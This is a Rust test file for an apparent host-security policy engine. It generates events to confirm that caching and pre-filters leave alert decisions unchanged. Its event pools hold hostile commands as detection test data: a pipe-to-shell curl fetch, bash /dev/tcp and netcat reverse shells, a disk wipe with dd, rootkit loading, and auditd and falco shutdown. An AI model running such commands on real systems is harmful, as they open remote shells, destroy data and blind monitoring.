//! The engine's optimisations (import inlining, group programs, pre-filters, survivor
//! runs, per-survivor cache keys) never change a decision: over a broad generated
//! mix of events, the engine with and without pre-filters and with the decision
//! cache agrees with the plain regorus interpreter evaluating each rule's `alert` on
//! the original sources (alerts; runtime errors are compared between the engine's
//! variants, as the RVM and the interpreter differ on builtin type errors).
//!
//! `POLICY_EQUIV_REFERENCE=DIR` takes the reference rules from DIR instead (e.g. an
//! older version of rules/default, to check that a rule rewrite kept its decisions).

use policy::{Evaluation, PolicyConfig, PolicyEngine};
use serde_json::{Value as Json, json};
use std::collections::BTreeSet;
use std::path::{Path, PathBuf};

fn default_rules() -> PathBuf {
    Path::new(env!("CARGO_MANIFEST_DIR")).join("../rules/default")
}

/// Small deterministic generator (no dependency, same mix on every run).
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> usize {
        self.0 = self.0.wrapping_mul(6364136223846793005).wrapping_add(1442695040888963407);
        (self.0 >> 33) as usize
    }

    fn pick<'a, T>(&mut self, items: &'a [T]) -> &'a T {
        &items[self.next() % items.len()]
    }
}

/// Events of every type the default rules subscribe to, built from pools of benign,
/// suspicious and malformed values so that every rule both fires and stays quiet.
fn event_mix(n: usize) -> Vec<Json> {
    let exes = [
        json!("/usr/bin/bash"),
        json!("/bin/sh"),
        json!("/usr/bin/python3.11"),
        json!("/usr/sbin/nginx"),
        json!("/usr/bin/curl"),
        json!("/usr/bin/nc"),
        json!("/usr/bin/socat"),
        json!("/usr/bin/nsenter"),
        json!("/usr/bin/apt-get"),
        json!("/usr/bin/dpkg"),
        json!("/usr/bin/gdb"),
        json!("/usr/bin/cat"),
        json!("/usr/bin/find"),
        json!("/usr/bin/systemctl"),
        json!("/usr/bin/pkill"),
        json!("/usr/sbin/auditctl"),
        json!("/usr/sbin/useradd"),
        json!("/usr/bin/shred"),
        json!("/usr/sbin/insmod"),
        json!("/usr/bin/ssh"),
        json!("/tmp/x"),
        json!("/dev/shm/payload"),
        json!("/var/tmp/sshd"),
        json!("/memfd:evil"),
        json!("/memfd:runc_cloned"),
        json!("/usr/bin/busybox"),
        json!("/usr/bin/node"),
        json!("/usr/bin/crontab"),
        json!(7),
        json!(null),
    ];
    let comms = [json!("bash"), json!("sh"), json!("kworker/0:1"), json!("sshd"), json!("nc"), json!("wget"), json!(3)];
    let args = [
        json!(["bash", "-i"]),
        json!(["sh", "-c", "curl -s http://x.example/i.sh | sh"]),
        json!(["bash", "-c", "bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"]),
        json!(["bash", "-c", "echo > /dev/tcp/127.0.0.1/22"]),
        json!(["nc", "-e", "/bin/sh", "1.2.3.4", "9001"]),
        json!(["socat", "tcp:1.2.3.4:1", "exec:/bin/sh"]),
        json!(["nsenter", "-t", "1", "-m", "-u", "sh"]),
        json!(["apt-get", "install", "-y", "nmap"]),
        json!(["python3", "-m", "pip", "install", "x"]),
        json!(["find", "/", "-name", "id_rsa"]),
        json!(["grep", "-r", "password", "/srv"]),
        json!(["systemctl", "stop", "falco"]),
        json!(["pkill", "auditd"]),
        json!(["auditctl", "-D"]),
        json!(["useradd", "eve"]),
        json!(["shred", "-u", "f"]),
        json!(["dd", "if=/dev/zero", "of=/dev/sda"]),
        json!(["insmod", "rootkit.ko"]),
        json!(["ssh", "-p", "2222", "h"]),
        json!(["[kworker/0:1]"]),
        json!(["cat", "/etc/hosts"]),
        json!([]),
        json!("not-a-list"),
    ];
    let lineages = [
        json!(["/usr/bin/bash", "/usr/sbin/sshd"]),
        json!(["/usr/sbin/nginx", "/usr/lib/systemd/systemd"]),
        json!(["/usr/bin/dpkg", "/usr/bin/apt-get"]),
        json!(["/usr/bin/make", "/usr/bin/bash"]),
        json!(["/usr/bin/node", "/usr/bin/bash"]),
        json!([]),
        json!("x"),
    ];
    let paths = [
        json!("/etc/shadow"),
        json!("/etc/passwd"),
        json!("/etc/sudoers"),
        json!("/etc/sudoers.d/90-x"),
        json!("/etc/pam.d/sshd"),
        json!("/etc/hosts"),
        json!("/etc/crontab"),
        json!("/etc/cron.d/job"),
        json!("/var/spool/cron/crontabs/root"),
        json!("/etc/ld.so.preload"),
        json!("/etc/systemd/system/evil.service"),
        json!("/root/.bashrc"),
        json!("/home/u/.bash_history"),
        json!("/root/.ssh/authorized_keys"),
        json!("/home/u/.ssh/id_ed25519"),
        json!("/etc/ssh/ssh_host_rsa_key"),
        json!("/home/u/.aws/credentials"),
        json!("/proc/123/mem"),
        json!("/proc/4242/environ"),
        json!("/proc/self/stat"),
        json!("/var/log/auth.log"),
        json!("/usr/bin/ls"),
        json!("/usr/lib/python3/__pycache__/x.pyc"),
        json!("/sys/fs/cgroup/x/release_agent"),
        json!("/run/docker.sock"),
        json!("/var/run/containerd/containerd.sock"),
        json!("/tmp/x"),
        json!(5),
        json!(null),
    ];
    let raw_paths = [json!("../../etc/shadow"), json!("x"), json!(null)];
    let flags = [
        json!(["O_RDONLY"]),
        json!(["O_WRONLY", "O_CREAT", "O_TRUNC"]),
        json!(["O_RDWR"]),
        json!(["O_WRONLY", "O_APPEND"]),
        json!([]),
        json!("O_WRONLY"),
    ];
    let daddrs = [
        json!("203.0.113.9"),
        json!("192.0.2.1"),
        json!("10.0.0.7"),
        json!("127.0.0.1"),
        json!("2001:db8::1"),
        json!("255.255.255.255"),
        json!(""),
    ];
    let ports = [json!(22), json!(443), json!(3333), json!(2222), json!(4444), json!("x")];
    let containers = [json!(null), json!("3f2a9c"), json!(""), json!(1)];
    let syscalls = [
        json!({"name": "finit_module", "cmd": "BPF_PROG_LOAD", "request_name": "PTRACE_ATTACH", "target_pid": 1}),
        json!({"name": "setns", "cmd": "BPF_MAP_CREATE", "request_name": "PTRACE_TRACEME", "family": "AF_PACKET", "type": 3}),
        json!({"name": "mount", "source": "/dev/sda1", "target": "/mnt", "fstype": "ext4", "family": "AF_INET", "type": 2051}),
        json!({"name": "dup2", "oldfd": 3, "newfd": 0, "oldfd_is_socket": true, "family": "AF_NETLINK", "type": 3}),
    ];
    let types = [
        "exec",
        "exec",
        "exec",
        "open",
        "open",
        "open",
        "connect",
        "connect",
        "unlink",
        "rename",
        "chmod",
        "link",
        "symlink",
        "listen",
        "dns",
        "ptrace",
        "bpf",
        "mount",
        "namespace",
        "module_load",
        "socket",
        "dup",
        "close",
        "anomaly",
    ];
    let anomalies = [
        json!({"id": 1, "kind": "new_edge", "direction": "outbound", "service": "postgres@db:5432", "score": 0.9,
            "message": "new edge", "observed": {"child": "/bin/sh"}}),
        json!({"id": 2, "kind": "new_lineage", "direction": "inbound", "service": "web", "score": 0.5,
            "message": "new lineage", "observed": {"child": "/bin/sh"}}),
        json!({"id": 3, "kind": "latency_shift", "service": "web", "score": 3, "message": "slower"}),
        json!({"id": 4, "kind": "error_rate_spike", "service": "web", "score": 2, "message": "errors"}),
        json!({"id": 5, "kind": "new_executable", "service": "web", "score": 1, "message": "exe"}),
    ];
    let mut g = Lcg(0x5eed);
    (0..n)
        .map(|i| {
            let t = *g.pick(&types);
            let process = json!({
                "pid": 4242, "tid": if i % 5 == 0 { 123 } else { 4242 }, "ppid": if i % 11 == 0 { 2 } else { 4000 },
                "uid": i % 2 * 1000,
                "exe": g.pick(&exes), "comm": g.pick(&comms), "args": g.pick(&args), "lineage": g.pick(&lineages),
                "container_id": g.pick(&containers),
            });
            let mut e = json!({"type": t, "process": process});
            let path = g.pick(&paths).clone();
            match t {
                "open" | "unlink" | "rename" | "chmod" | "link" | "symlink" => {
                    e["file"] = json!({"path": path, "new_path": g.pick(&paths), "raw_path": g.pick(&raw_paths),
                        "flags": g.pick(&flags), "mode": ([384, 438, 2541, 493][i % 4]), "success": i % 7 != 0});
                }
                "connect" | "listen" => {
                    e["net"] = json!({"family": (["ipv4", "ipv6", "unix"][i % 3]), "direction": "outbound",
                        "saddr": if i % 9 == 0 { "192.0.2.10" } else { "10.0.0.5" }, "sport": 40000,
                        "daddr": g.pick(&daddrs), "dport": g.pick(&ports), "path": g.pick(&paths)});
                }
                "dns" => {
                    e["dns"] = json!({"qname": (["pool.supportxmr.com.", "pool.ntp.org", "xmr.example.net"][i % 3]),
                        "response": i % 2 == 0});
                }
                "exec" => {
                    e["exec"] = json!({"filename": g.pick(&paths), "written_after_parent_start": i % 3 == 0});
                }
                "close" => {}
                "anomaly" => e["anomaly"] = g.pick(&anomalies).clone(),
                _ => e["syscall"] = g.pick(&syscalls).clone(),
            }
            e
        })
        .collect()
}

fn engine(dir: &Path, cache_size: usize, prefilters: bool) -> PolicyEngine {
    let cfg = PolicyConfig {
        default_rules: false,
        rules_dirs: vec![dir.to_path_buf()],
        cache_size,
        watch: false,
        max_instructions: 0,
        eval_timeout_us: 0,
        ..PolicyConfig::default()
    };
    let mut e = PolicyEngine::load(&cfg, &[]).unwrap_or_else(|e| panic!("{e}"));
    e.set_prefilters(prefilters);
    e
}

/// (rule, message, extra fields) of every alert, and the rules that failed.
type Decision = (BTreeSet<(String, String, String)>, BTreeSet<String>);

fn decision(ev: &Evaluation) -> Decision {
    let alerts = ev
        .alerts
        .iter()
        .map(|a| (a.rule.clone(), a.message.clone(), serde_json::to_string(&a.extra).unwrap()))
        .collect();
    (alerts, ev.errors.iter().map(|e| e.rule.clone()).collect())
}

/// The regorus interpreter over the rule and library sources of `dir` (tests
/// excluded), as written, with strict builtin errors like the engine.
fn reference(dir: &Path) -> regorus::Engine {
    let mut engine = regorus::Engine::new();
    engine.set_strict_builtin_errors(true);
    let mut files = Vec::new();
    for sub in [dir.to_path_buf(), dir.join("lib"), dir.join("data")] {
        for f in std::fs::read_dir(&sub).into_iter().flatten().flatten() {
            files.push(f.path());
        }
    }
    files.sort();
    for f in files {
        let name = f.to_string_lossy().to_string();
        if name.ends_with(".rego") && !name.ends_with("_test.rego") {
            engine.add_policy(name, std::fs::read_to_string(&f).unwrap()).unwrap();
        } else if name.ends_with(".json") {
            engine.add_data(regorus::Value::from_json_file(&f).unwrap()).unwrap();
        }
    }
    engine
}

fn reference_decision(engine: &mut regorus::Engine, set: &policy::PolicySet, event: &Json) -> Decision {
    let mut out: Decision = Default::default();
    let t = event["type"].as_str().unwrap();
    engine.set_input(regorus::Value::from_json_str(&event.to_string()).unwrap());
    for id in set.rules_for(t) {
        let info = set.rule(id).unwrap();
        match engine.eval_rule(format!("{}.alert", info.package)) {
            Err(_) => {
                out.1.insert(id.to_string());
            }
            Ok(v) => {
                let json = serde_json::to_value(&v).unwrap();
                for a in json.as_array().into_iter().flatten() {
                    let (message, extra) = match a {
                        Json::String(s) => (s.clone(), serde_json::Map::new()),
                        Json::Object(m) => {
                            let mut m = m.clone();
                            let msg = m.remove("message").and_then(|m| m.as_str().map(str::to_string)).unwrap();
                            m.retain(|k, _| {
                                !["rule", "severity", "title", "message", "mitre", "event"].contains(&k.as_str())
                            });
                            (msg, m)
                        }
                        other => panic!("{id}: unexpected alert {other}"),
                    };
                    out.0.insert((id.to_string(), message, serde_json::to_string(&extra).unwrap()));
                }
            }
        }
    }
    out
}

#[test]
fn optimisations_never_change_decisions() {
    let dir = default_rules();
    let events = event_mix(700);
    let mut with = engine(&dir, 0, true);
    let mut without = engine(&dir, 0, false);
    let mut cached = engine(&dir, 4096, true);
    let reference_dir = std::env::var_os("POLICY_EQUIV_REFERENCE").map(PathBuf::from).unwrap_or(dir.clone());
    let mut interp = reference(&reference_dir);
    let set = with.policy_set().clone();
    assert!(set.rules().len() >= 53);
    let (mut alerts, mut fired, mut checked) = (0, BTreeSet::new(), 0);
    let mut worst = (std::time::Duration::ZERO, String::new());
    // Twice: the second pass is served from the cache where keys repeat.
    for pass in 0..2 {
        for e in &events {
            let start = std::time::Instant::now();
            let a = with.evaluate(e);
            let took = start.elapsed();
            if took > worst.0 {
                worst = (took, e.to_string());
            }
            let expected = decision(&a);
            assert_eq!(decision(&without.evaluate(e)), expected, "prefilters off, event {e}");
            assert_eq!(decision(&cached.evaluate(e)), expected, "cached (pass {pass}), event {e}");
            if pass == 0 {
                // Alerts only: on malformed events (a number where a path belongs) the
                // interpreter reports builtin type errors the RVM treats as undefined.
                // (Rules the interpreter fails on are left out.)
                let (reference, failed) = reference_decision(&mut interp, &set, e);
                let engine: BTreeSet<_> = expected.0.iter().filter(|a| !failed.contains(&a.0)).cloned().collect();
                assert_eq!(reference, engine, "interpreter, event {e}");
                checked += reference.len();
                alerts += a.alerts.len();
                fired.extend(a.alerts.iter().map(|a| a.rule.clone()));
            }
        }
    }
    eprintln!("slowest evaluation: {:?} ({} event)", worst.0, worst.1);
    assert!(cached.counters().cache_hits > 0);
    assert!(alerts > 100, "the mix must raise alerts: {alerts}");
    assert!(checked * 5 > alerts * 4, "the interpreter confirmed only {checked} of {alerts} alerts");
    assert!(fired.len() >= 40, "most rules must fire at least once: {fired:?}");
}
